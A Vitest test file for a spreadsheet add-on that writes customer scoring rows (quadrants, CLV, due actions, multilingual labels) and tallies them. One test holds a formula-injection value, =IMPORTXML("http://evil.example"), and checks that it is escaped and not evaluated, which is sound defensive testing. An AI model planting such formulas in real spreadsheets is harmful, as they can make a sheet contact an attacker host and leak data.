import { describe, expect, it } from 'vitest';
import { serialOf } from '../../../addon/src/sheet/serial.ts';
import { tallyCells } from '../../../addon/src/sheet/tally.ts';
import { writtenRow } from '../../../addon/src/sheet/written-row.ts';
import { scoreOf } from '../scores.ts';

const NOW = '2026-11-21T06:10';

describe('the row of a customer', () => {
  it('holds words, real numbers and real dates', () => {
    expect(writtenRow(27, scoreOf('7'), 'en', NOW)).toEqual({
      row: 27,
      values: {
        quadrant: '● True Friend',
        clv: 105_600,
        stillActive: 0.88,
        action: 'Call about the overdue order',
        moneyAtStake: 3_150,
        due: serialOf('2026-11-24'),
        why: 'Usually buys every 32 days; it is 51 days now.',
        updated: serialOf(NOW),
      },
      look: { shape: '●', ink: '#00795a', fill: '#dff3ea' },
      note: '',
    });
  });

  it('says so when a customer has no orders, and clears what stood there', () => {
    const { values, look } = writtenRow(2, undefined, 'pl', NOW);
    expect(values).toEqual({
      quadrant: 'Jeszcze bez zamówień',
      clv: '',
      stillActive: '',
      action: '',
      moneyAtStake: '',
      due: '',
      why: '',
      updated: serialOf(NOW),
    });
    expect(look).toBeNull();
  });

  it.each([
    ['PROSPECT', 'No orders yet'],
    ['DATA_ERROR', 'Check the data'],
  ] as const)('calls a %s without a quadrant "%s" and keeps its action', (lifecycle, words) => {
    const score = scoreOf('7', { quadrant: null, clv: null, pAlive: null, lifecycle });
    const { values, look } = writtenRow(2, score, 'en', NOW);
    expect(values).toMatchObject({ quadrant: words, clv: '', action: 'Call about the overdue order' });
    expect(look).toBeNull();
  });

  it('notes on the quadrant that it is an early sign, and what else to know of it', () => {
    const warnings = [{ code: 'margin_assumed', text: 'Margin is assumed (30%).' }];
    expect(writtenRow(2, scoreOf('7', { provisional: true, warnings }), 'en', NOW).note).toBe(
      'An early sign: too little history to call it lasting.\nMargin is assumed (30%).',
    );
  });

  it('keeps a reason that quotes a formula from becoming one', () => {
    const { primaryAction } = scoreOf('7');
    const reason = '=IMPORTXML("http://evil.example") has not ordered for 51 days.';
    const score = scoreOf('7', { primaryAction: { ...primaryAction, label: '+1 call', reason } });
    expect(writtenRow(2, score, 'en', NOW).values).toMatchObject({ why: `'${reason}`, action: "'+1 call" });
  });
});

describe('the tally of a sheet', () => {
  it('counts and sums by the shape, in whatever language and after a header', () => {
    const quadrants = ['Quadrant', '● True Friend', '● Amigo verdadeiro', null, '◆ Obcy', 'No orders yet'];
    const clv = ['CLV', 100, 50.5, 7, 'n/a', null];
    expect(tallyCells(quadrants, clv)).toEqual({
      TRUE_FRIEND: { customers: 2, clv: 150.5 },
      BUTTERFLY: { customers: 0, clv: 0 },
      BARNACLE: { customers: 0, clv: 0 },
      STRANGER: { customers: 1, clv: 0 },
    });
  });

  it('is nothing where no customer has a quadrant', () => {
    expect(tallyCells(['Quadrant', 'No orders yet'], ['CLV', null])).toBeNull();
  });
});
